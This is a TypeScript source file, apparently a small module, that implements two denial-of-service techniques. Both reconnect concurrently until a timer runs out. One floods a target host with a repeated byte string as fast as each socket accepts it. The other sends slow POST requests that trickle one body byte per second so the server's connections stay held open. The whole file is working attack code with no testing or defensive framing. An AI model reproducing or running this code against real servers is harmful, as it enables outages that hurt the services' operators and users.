import { connect, type Socket } from 'node:net';

interface Crowd {
  readonly url: string;
  readonly connections: number;
  readonly forMs: number;
}

/** So many connections at once, which read what they are told; whichever is cut off is begun again until the time is over. */
async function crowd(
  { url, connections, forMs }: Crowd,
  backAfterMs: number,
  begin: (socket: Socket) => void,
): Promise<void> {
  const { hostname, port } = new URL(url);
  const until = performance.now() + forMs;

  const once = () =>
    new Promise<void>(gone => {
      const socket = connect(Number(port), hostname);
      const end = setTimeout(() => socket.destroy(), until - performance.now());
      socket.on('error', () => undefined);
      socket.once('connect', () => begin(socket));
      socket.resume().once('close', () => {
        clearTimeout(end);
        setTimeout(gone, backAfterMs);
      });
    });
  async function keepOn(): Promise<void> {
    while (performance.now() < until) await once();
  }
  await Promise.all(Array.from({ length: connections }, keepOn));
}

/** Connections that send the same without end, as fast as it is taken. */
export const flood = ({ bytes, ...of }: Crowd & { readonly bytes: string }) =>
  crowd(of, 50, socket => {
    const more = (): void => {
      if (socket.writable && socket.write(bytes)) setImmediate(more);
    };
    socket.on('drain', more);
    more();
  });

interface Slowness extends Crowd {
  readonly path: string;
  readonly headers: Readonly<Record<string, string | number>>;
  /** What is sent of the body at once; afterwards one byte a second. */
  readonly begin: string;
}

/** Requests whose bodies never come. */
export const holdConnections = ({ path, headers, begin, ...of }: Slowness) => {
  const fields = Object.entries(headers).map(([name, value]) => `${name}: ${value}\r\n`);
  const head = `POST ${path} HTTP/1.1\r\nhost: ${new URL(of.url).hostname}\r\n${fields.join('')}\r\n`;
  return crowd(of, 100, socket => {
    socket.write(head + begin);
    const trickle = setInterval(() => socket.write(' '), 1_000);
    socket.once('close', () => clearInterval(trickle));
  });
};
